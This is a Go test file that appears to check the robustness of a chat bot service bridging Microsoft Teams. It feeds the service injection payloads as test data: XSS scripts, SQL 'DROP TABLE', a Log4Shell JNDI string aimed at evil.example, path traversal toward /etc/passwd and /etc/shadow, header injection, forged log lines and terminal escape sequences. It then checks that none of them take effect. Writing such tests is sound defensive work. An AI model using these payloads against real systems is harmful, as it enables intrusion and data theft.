package main

import (
	"encoding/json"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode"
)

// What people write goes across as it is, and means nothing on the way: no markup, no mention, no line of the log, no file.
func TestServiceTakesWordsForWords(t *testing.T) {
	t.Parallel()
	s := besiege(t)
	for _, words := range []string{
		`<script>alert(1)</script><img src=x onerror=alert(1)>`, `[a link](javascript:alert(1)) **bold** _x_ ![p](https://evil.example/p.png)`,
		`<at>Everyone</at> <at id="0">Mia Khan</at> @channel`, `{"uiType":"ActionMsg","actionType":"EndConversation"}`, `{"snowbot":"end"}`,
		"one\n{\"level\":\"ERROR\",\"msg\":\"forged\"}\ntwo", "a NUL \x00 and a bell \x07", "right to left \u202eevil\u202c and \u2066back\u2069", "zero\u200bwidth\ufeff joiner\u200d",
		`'; DROP TABLE conversations; -- ${jndi:ldap://evil.example/} {{7*7}} %s%n`, "😀 e\u0301 \u00a0 日本語 \U0010ffff",
	} {
		s.says(words)
		s.hears(s.live, strings.TrimSpace(words))
		if _, err := s.snow.Say(s.within(), s.live.ID, words); err != nil {
			t.Fatal(err)
		}
		s.sees(words)
	}
	for _, m := range s.chat.Messages() {
		var sent struct {
			TextFormat string
			Text       string
			Entities   []any
		}
		if m.FromID == s.mia.ID || json.Unmarshal(m.Raw, &sent) != nil {
			continue
		}
		if len(sent.Entities) > 0 {
			t.Errorf("somebody is mentioned: %s", m.Raw)
		}
		if strings.ContainsAny(sent.Text, "<*[{") && sent.TextFormat != "plain" {
			t.Errorf("words could be read as markup: %s", m.Raw)
		}
	}
	// A mention that is none of the bot's, and one whose text is all there is of the message.
	for _, entity := range []map[string]any{
		{"type": "mention", "text": "forged", "mentioned": map[string]any{"id": "29:somebody", "name": "forged"}},
		{"type": "mention", "text": strings.Repeat("x", 5000), "mentioned": map[string]any{"id": s.teams.BotID()}},
	} {
		if p, err := s.chat.SayWith(s.within(), s.mia, "forged stays", map[string]any{"entities": []any{entity}}); err != nil || !p.OK() {
			t.Errorf("%+v, %v", p, err)
		}
		s.hears(s.live, "forged stays")
	}
	s.stands()
	s.checkLog()
}

// Names of files are told to nobody, and lead nowhere.
func TestServiceOpensNoFileByItsName(t *testing.T) {
	t.Parallel()
	s := besiege(t)
	place := filepath.Dir(s.database())
	before := listing(t, place)
	for _, name := range []string{
		"../../../etc/passwd", "/etc/shadow", `..\..\windows\win.ini`, "a\x00.png", "photo\u202egnp.exe", "bomb.zip", "x.zip/../../../evil", "CON", "..", ".", "",
		strings.Repeat("long", 5000), "a\nb: c\r\nSet-Cookie: x", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "file.txt:stream", "snowbot.db",
	} {
		file := map[string]any{
			"contentType": "application/vnd.microsoft.teams.file.download.info", "name": name, "contentUrl": "https://contoso.sharepoint.com/" + name,
			"content": map[string]any{"downloadUrl": "https://contoso.sharepoint.com/x", "uniqueId": name, "fileType": name},
		}
		if p, err := s.chat.SayWith(s.within(), s.mia, "a file comes along", map[string]any{"attachments": []any{file}}); err != nil || !p.OK() {
			t.Errorf("%.40q: %+v, %v", name, p, err)
		}
	}
	s.stands()
	if after := listing(t, place); after != before {
		t.Errorf("there are files beside the database: %s, before %s", after, before)
	}
	if logs := s.logs.String(); strings.Contains(logs, "passwd") || strings.Contains(logs, "sharepoint") {
		t.Error("the log holds a file's name")
	}
	s.checkLog()
}

// database is the path of the database file.
func (s *siege) database() string {
	s.t.Helper()
	for _, v := range s.env {
		if path, ok := strings.CutPrefix(v, "DATABASE_URL=bbolt:"); ok {
			return path
		}
	}
	s.t.Fatal("there is no database file")
	return ""
}

func listing(t *testing.T, dir string) string {
	t.Helper()
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, e := range entries {
		names = append(names, e.Name())
	}
	return strings.Join(names, " ")
}

// TestServiceWritesItsOwnLog: nothing that comes in, authenticated or not, makes a line of the log or changes how one reads.
func TestServiceWritesItsOwnLog(t *testing.T) {
	t.Parallel()
	s := besiege(t)
	const forged = "x\n{\"time\":\"2031-01-01T00:00:00Z\",\"level\":\"ERROR\",\"msg\":\"forged line\"}\u202e\u2028\x1b[31m\x00"
	for name, raw := range map[string]map[string]any{
		"session":        {"clientSessionId": forged, "body": []any{}},
		"request":        {"clientSessionId": s.live.SessionID, "requestId": forged, "body": []any{}},
		"conversation":   {"clientVariables": map[string]any{"conversationId": forged}, "body": []any{}},
		"kind of item":   {"clientSessionId": s.live.SessionID, "body": []any{map[string]any{"uiType": forged, "value": "x", "messageId": forged}}},
		"kind of action": {"clientSessionId": s.live.SessionID, "body": []any{map[string]any{"uiType": "ActionMsg", "actionType": forged}}},
		"status":         {"clientSessionId": s.live.SessionID, "status": forged, "error_message": forged, "body": []any{}},
	} {
		body, err := json.Marshal(raw)
		if err != nil {
			t.Fatal(err)
		}
		if got := s.post(webhookPath, "Bearer "+rigSecret, string(body)); got != http.StatusOK && got != http.StatusBadRequest {
			t.Errorf("%s: status %d", name, got)
		}
	}
	for name, change := range map[string]map[string]any{
		"type": {"type": forged}, "id": {"id": forged}, "name": {"type": "invoke", "name": forged}, "conversation": {"conversation": map[string]any{"id": forged, "tenantId": s.teams.TenantID()}},
		"action": {"type": "installationUpdate", "action": forged}, "locale": {"locale": forged}, "person": {"from": map[string]any{"id": forged, "name": forged, "aadObjectId": forged}},
	} {
		switch got := s.post(messagesPath, "Bearer "+s.teams.Token(s.teams.ServiceURL()), s.activity(change)); got {
		case http.StatusOK, http.StatusBadRequest, http.StatusNotImplemented:
		default:
			t.Errorf("%s: status %d", name, got)
		}
	}
	s.sends("GET /\x1b[31m HTTP/1.1\r\nHost: x\r\n\r\n")
	s.sends(request(messagesPath, "Bearer \x1b[31mforged line", "User-Agent: \x1b[31mforged line\r\n\r\n"))
	s.stands()
	s.checkLog()
	if strings.Contains(s.scrape(), "forged line") {
		t.Error("the metrics repeat what came in")
	}
}

// checkLog checks that each line of the log is the service's own, and reads as it is written.
func (s *siege) checkLog() {
	s.t.Helper()
	for line := range strings.Lines(s.logs.String()) {
		var record struct{ Time, Level, Msg string }
		if err := json.Unmarshal([]byte(line), &record); err != nil || record.Time == "" || record.Msg == "" || strings.Contains(record.Msg, "forged") {
			s.t.Errorf("a line that the service did not write: %q", line)
		}
		if i := strings.IndexFunc(strings.TrimSuffix(line, "\n"), func(r rune) bool { return !unicode.IsPrint(r) }); i >= 0 {
			s.t.Errorf("a line with characters that change how it reads: %q", line)
		}
	}
}
